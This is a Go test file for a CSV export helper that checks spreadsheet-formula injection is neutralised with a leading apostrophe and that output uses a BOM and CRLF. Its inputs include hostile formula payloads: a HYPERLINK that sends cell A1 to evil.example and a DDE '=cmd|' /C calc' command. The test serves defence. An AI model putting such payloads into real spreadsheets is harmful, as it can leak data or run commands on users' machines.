package csvx_test

import (
	"encoding/csv"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"teilhabe.org/teilhabe/internal/csvx"
)

func TestNeutralize(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("https://evil.example","Klick")`: `'=HYPERLINK("https://evil.example","Klick")`,
		"=1+1":                  "'=1+1",
		"+49 561 123":           "'+49 561 123",
		"-2+3":                  "'-2+3",
		"@SUM(A1:A2)":           "'@SUM(A1:A2)",
		"\t=1":                  "'\t=1",
		"\r=1":                  "'\r=1",
		"  =1+1":                "'  =1+1",
		"\n=cmd|' /C calc'!A0":  "'\n=cmd|' /C calc'!A0",
		"-":                     "'-",
		"-12.5":                 "-12.5", // a coordinate stays a number
		"-7":                    "-7",
		"Fahrräder = Freiheit":  "Fahrräder = Freiheit",
		"دراجات":                "دراجات",
		"":                      "",
		"'already quoted":       "'already quoted",
		"mail@teilhabe.example": "mail@teilhabe.example",
	} {
		if got := csvx.Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestWriter: what encoding/csv reads back is the neutralised cells, in
// UTF-8 after a byte order mark, with CRLF line ends.
func TestWriter(t *testing.T) {
	rec := httptest.NewRecorder()
	w := csvx.Attach(rec, "export.csv")
	rows := [][]string{
		{"name", "note", "lat"},
		{`=HYPERLINK("https://evil.example?"&A1,"Klick")`, "Zeile eins\nZeile \"zwei\", mit Komma", "-51.3"},
		{"@cmd", "Müller; Ünal", "9.5"},
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	body := rec.Body.String()
	if rec.Header().Get("Content-Type") != "text/csv; charset=utf-8" ||
		rec.Header().Get("Content-Disposition") != `attachment; filename="export.csv"` {
		t.Errorf("headers: %v", rec.Header())
	}
	if !strings.HasPrefix(body, "\uFEFFname,note,lat\r\n") || strings.Count(body, "\uFEFF") != 1 {
		t.Errorf("start: %q", body)
	}
	// Every line break is CRLF, also the one inside the quoted note.
	if strings.Count(body, "\r\n") != 4 || strings.Count(body, "\n") != 4 || !strings.HasSuffix(body, "9.5\r\n") {
		t.Errorf("line ends: %q", body)
	}
	got, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		rows[0],
		{`'=HYPERLINK("https://evil.example?"&A1,"Klick")`, "Zeile eins\nZeile \"zwei\", mit Komma", "-51.3"},
		{"'@cmd", "Müller; Ünal", "9.5"},
	}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("read back %q, want %q", got, want)
	}
	// No cell read back starts a formula.
	for _, r := range got {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
				t.Errorf("formula cell %q", c)
			}
		}
	}
}

func TestEmptyWriterWritesNothing(t *testing.T) {
	var b strings.Builder
	if err := csvx.NewWriter(&b).Flush(); err != nil || b.Len() != 0 {
		t.Errorf("%v %q", err, b.String())
	}
}
